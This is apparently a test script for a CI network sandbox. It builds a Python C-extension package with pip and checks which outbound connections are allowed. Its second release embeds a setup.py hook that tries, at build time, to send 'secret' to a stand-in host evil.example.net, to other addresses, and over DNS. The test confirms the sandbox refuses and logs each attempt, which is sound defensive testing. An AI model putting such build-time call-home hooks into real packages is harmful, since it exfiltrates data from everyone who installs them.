#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# examples/ci: pip builds a package with a module in C and reaches its package server alone; code of a package that calls home
# Time limit: 200 s
. "$(dirname "$0")/../system/lib.sh"
needs gcc python3-config
. "$here/outside.sh"
for module in pip setuptools wheel yaml; do /usr/bin/python3 -c "import $module" 2>/dev/null || skip "python3-$module is not installed"; done
outside_up packages.example.com=203.0.113.5 evil.example.net=203.0.113.6

# release VERSION TEXT: a source package that does TEXT when it is built
release() {
	local from=$work/brief-$1
	mkdir -p "$from" "$work/www/simple/brief"
	cat >"$from/brief.c" <<-'END'
		#include <Python.h>
		static PyObject *answer(PyObject *self, PyObject *none) { return PyLong_FromLong(42); }
		static PyMethodDef methods[] = {{"answer", answer, METH_NOARGS, ""}, {0}};
		static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "brief", "", -1, methods};
		PyMODINIT_FUNC PyInit_brief(void) { return PyModule_Create(&module); }
	END
	printf '%s\n' "$2" "from setuptools import Extension, setup" \
		"setup(name='brief', version='$1', ext_modules=[Extension('brief', ['brief.c'])])" >"$from/setup.py"
	tar -C "$work" -czf "$work/www/simple/brief/brief-$1.tar.gz" "brief-$1"
}
release 1.0 ''
mkdir -p "$work/job/ci" && cd "$work/job" && cp "$top/examples/ci/rules" ci/ || exit 1
/usr/bin/python3 -c 'import sys, yaml; print(*yaml.safe_load(open(sys.argv[1]))["wheel"]["script"], sep="\n")' \
	"$top/examples/ci/gitlab-ci.yml" >"$work/script"
for name in "${!PIP_@}"; do unset "$name"; done
export HOME=$work PIP_CERT=$ca PIP_DISABLE_PIP_VERSION_CHECK=1
job() { timeout 100 "${on_host[@]}" sh -e "$work/script" >"$work/out" 2>&1; }
answer() { unzipped "$1" && PYTHONPATH=$work/unzipped /usr/bin/python3 -c 'import brief; print(brief.answer())'; }
unzipped() { rm -rf "$work/unzipped" && /usr/bin/python3 -m zipfile -e wheels/brief-"$1"-*.whl "$work/unzipped"; }
check "the job" job || cat "$work/out"
check_eq "$(answer 1.0)" 42 "its package works"
check_eq "$(tail -n +2 "$work/outside.log" | sort -u)" "443 packages.example.com /simple/brief/
443 packages.example.com /simple/brief/brief-1.0.tar.gz" "by the package server, which a rule with sni allows"
check_eq "$(grep -c '"refused_by"' connections.json)" 0 "nothing is refused"

release 2.0 "
import socket, urllib.request
for url in 'http://evil.example.net/secret', 'http://203.0.113.6/secret', 'http://127.0.0.1/secret':
    try:
        urllib.request.urlopen(url)
    except OSError:
        pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    try:
        s.sendto(b'secret', ('203.0.113.53', 53))
    except OSError:
        pass"
rm connections.json
check "a package that calls home is built" job || cat "$work/out"
check_eq "$(answer 2.0)" 42 "and works"
check_eq "$(grep -c secret "$work/outside.log")" 0 "but its calls reach nobody"
for what in '"name":"evil.example.net"' '"address":"203.0.113.6"' '"address":"127.0.0.1"' '"address":"203.0.113.53"'; do
	check "the log has the refused $what" eval 'grep -F "$what" connections.json | grep -q "\"refused_by\":\"rule\""'
done
check "the summary, too" grep -q "^python3.*evil.example.net" "$work/out"
sed -n "/^PROGRAM/,\$p" "$work/out"
finish
